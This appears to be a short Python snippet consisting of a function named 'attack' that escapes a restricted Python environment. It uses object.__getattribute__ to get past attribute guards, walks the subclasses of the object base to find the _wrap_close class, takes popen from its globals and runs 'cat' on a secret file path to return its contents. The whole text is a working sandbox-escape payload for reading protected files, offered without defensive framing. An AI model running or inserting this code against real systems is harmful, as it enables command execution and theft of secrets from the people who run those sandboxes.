# Reads by `object.__getattribute__`, past any guard on the dot.
def attack(xs, secret_path):
    read = object.__getattribute__
    kind = read(xs, "__class__")
    for found in type.__getattribute__(kind, "__base__").__subclasses__():
        if found.__name__ == "_wrap_close":
            return (
                read(found, "__init__")
                .__globals__["popen"](f"cat '{secret_path}'")
                .read()
            )
    raise ValueError("not found")
